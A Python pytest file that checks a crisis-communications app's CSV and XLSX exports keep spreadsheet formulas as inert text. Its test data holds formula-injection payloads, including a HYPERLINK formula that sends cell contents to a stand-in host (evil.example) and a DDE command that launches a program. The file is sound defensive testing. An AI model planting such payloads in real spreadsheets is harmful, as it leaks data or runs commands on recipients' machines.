"""Every CSV/XLSX export carries hostile text as text: no cell a spreadsheet would evaluate.

Journalists' names, outlets and subjects arrive from outside (imported emails); titles are written by any
Department and opened at the Ministry. The routes are discovered from the app's URL map, so a new export
route fails here until it is walked with hostile values.
"""
import csv
import io
import os
import re

import pytest
from openpyxl import load_workbook

from crisiscomm.extensions import db
from crisiscomm.inquiries import grounds as inquiries
from crisiscomm.rules.service import seed_defaults

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "outlet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "subject": "+1+1 tuyển sinh",
    "minus": "-2+3",
    "title": "=1+1 Họp báo quý",
}

# Every route that answers a spreadsheet, with the query that makes it one.
EXPORTS = {
    "/contacts/export.csv": "",
    "/contacts/export.xlsx": "",
    "/inquiries/export.xlsx": "",
    "/briefings/compliance": "?quarter=2026Q2&format=xlsx",
    "/overview/scorecard.xlsx": "",
    "/network/export.csv": "",
    "/network/export.xlsx": "",
}


@pytest.fixture
def hostile_world(app, factory, clock):
    factory.departments()
    seed_defaults()
    inquiries.seed_refusal_grounds()
    db.session.commit()
    officer = factory.api(factory.user("comms_officer", department="ha-noi"))
    r = officer.post("/api/v1/contacts", json={"full_name": HOSTILE["name"], "outlet": HOSTILE["minus"],
                                               "outlet_type": "online", "notes": HOSTILE["outlet"]})
    assert r.status_code == 201, r.get_json()
    r = officer.post("/api/v1/inquiries", json={"subject": HOSTILE["subject"], "journalist_name": HOSTILE["name"],
                                                "outlet": HOSTILE["outlet"]})
    assert r.status_code == 201, r.get_json()
    r = officer.post("/api/v1/briefings", json={"title": HOSTILE["title"], "starts_at": "2026-06-29T09:00"})
    assert r.status_code == 201, r.get_json()
    r = officer.post("/api/v1/network/schools", json={"name": HOSTILE["title"], "level": "primary",
                                                      "commune": HOSTILE["minus"]})
    assert r.status_code == 201, r.get_json()
    r = officer.post(f"/api/v1/network/schools/{r.get_json()['id']}/focal-points",
                     json={"full_name": HOSTILE["name"], "title": HOSTILE["outlet"]})
    assert r.status_code == 201, r.get_json()
    return factory.login(factory.user("ministry_admin"))


def _cells(body, path):
    if path.endswith(".csv"):
        text = body.decode("utf-8-sig")
        return [(v, None) for row in csv.reader(io.StringIO(text)) for v in row]
    wb = load_workbook(io.BytesIO(body))  # not data_only: formulas would show as type "f"
    return [(c, ws.title) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_every_export_route_is_walked(app):
    found = {r.rule for r in app.url_map.iter_rules() if re.search(r"\.(csv|xlsx)|export", r.rule)}
    found = {r.replace("<any(csv, xlsx, vcf):fmt>", "csv") for r in found} | \
        {r.replace("<any(csv, xlsx, vcf):fmt>", "xlsx") for r in found if "<any(" in r}
    found = {r for r in found if "<" not in r}
    assert found <= set(EXPORTS), f"export routes not walked with hostile values: {sorted(found - set(EXPORTS))}"


@pytest.mark.parametrize("path", sorted(EXPORTS))
def test_exports_keep_hostile_text_as_text(hostile_world, path):
    response = hostile_world.get(path + EXPORTS[path])
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    cells = _cells(response.data, path)
    if path.endswith(".csv"):
        values = [v for v, _ in cells]
        # CSV has no cell types: the usual apostrophe guard, on every formula-like value
        assert "'" + HOSTILE["name"] in values and "'" + HOSTILE["minus"] in values
        assert not [v for v in values if v[:1] in ("=", "+", "-", "@")]
        return
    formulas = [f"{sheet}!{c.coordinate}={c.value!r}" for c, sheet in cells if c.data_type == "f"]
    assert not formulas, formulas
    texts = {c.value: c for c, _ in cells if isinstance(c.value, str)}
    expected = {"/contacts/export.xlsx": [HOSTILE["name"], HOSTILE["minus"], HOSTILE["outlet"]],
                "/inquiries/export.xlsx": [HOSTILE["name"], HOSTILE["outlet"], HOSTILE["subject"]],
                "/briefings/compliance": [HOSTILE["title"]]}.get(path, [])
    for value in expected:
        # text typed as text, exactly as written (no visible apostrophe), and kept text if edited in Excel
        assert value in texts, (value, sorted(texts)[:20])
        assert texts[value].data_type == "s" and texts[value].quotePrefix


def test_no_export_writes_cells_around_the_neutralising_writer():
    package = os.path.join(os.path.dirname(__file__), "..", "..", "crisiscomm")
    offenders = []
    for folder, _dirs, files in os.walk(package):
        for name in files:
            path = os.path.join(folder, name)
            if not name.endswith(".py") or name == "spreadsheets.py":
                continue
            with open(path, encoding="utf-8") as fh:
                source = fh.read()
            if re.search(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|\bws\.append\(|\.cell\([^)]*value=", source):
                offenders.append(os.path.relpath(path, package))
    assert not offenders, f"write CSV/XLSX through crisiscomm.spreadsheets: {offenders}"
